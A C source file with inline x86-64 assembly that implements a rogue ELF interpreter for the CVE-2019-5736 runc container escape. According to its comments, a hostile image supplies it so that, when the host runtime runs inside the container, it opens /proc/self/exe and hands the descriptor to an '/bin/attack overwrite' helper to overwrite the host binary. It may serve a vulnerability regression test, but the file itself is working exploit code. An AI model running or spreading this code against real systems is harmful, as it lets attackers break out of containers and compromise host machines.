// An ELF interpreter that a stranger's image has in place of the dynamic linker's: the kernel
// starts it when a program that asks for one is executed, as that program. COMMAND is a link to
// /proc/self/exe, and the program is the runtime's own, the host's (CVE-2019-5736). It takes a
// descriptor of it, and becomes `attack overwrite`.
//
// Without a C library: what starts one looks at the headers of the program, which are another's.
__asm__(
    ".globl _start\n"
    "_start:\n"
#ifdef __x86_64__
    "    mov $2, %eax\n" // open(2) to read
    "    lea exe(%rip), %rdi\n"
    "    xor %esi, %esi\n"
    "    syscall\n"
    "    add $'0', %al\n"
    "    mov %al, number(%rip)\n"
    "    lea attack(%rip), %rdi\n"
    "    lea overwrite(%rip), %rsi\n"
    "    lea number(%rip), %rdx\n"
    "    push $0\n" // argv, and an empty environment
    "    push %rdx\n"
    "    push %rsi\n"
    "    push %rdi\n"
    "    mov %rsp, %rsi\n"
    "    xor %edx, %edx\n"
    "    mov $59, %eax\n" // execve(2)
    "    syscall\n"
    "    mov $111, %edi\n"
    "    mov $60, %eax\n" // _exit(2)
    "    syscall\n"
#endif
    ".data\n"
    "exe: .asciz \"/proc/self/exe\"\n"
    "attack: .asciz \"/bin/attack\"\n"
    "overwrite: .asciz \"overwrite\"\n"
    "number: .asciz \"0\"\n"
    ".section .note.GNU-stack,\"\",@progbits\n");
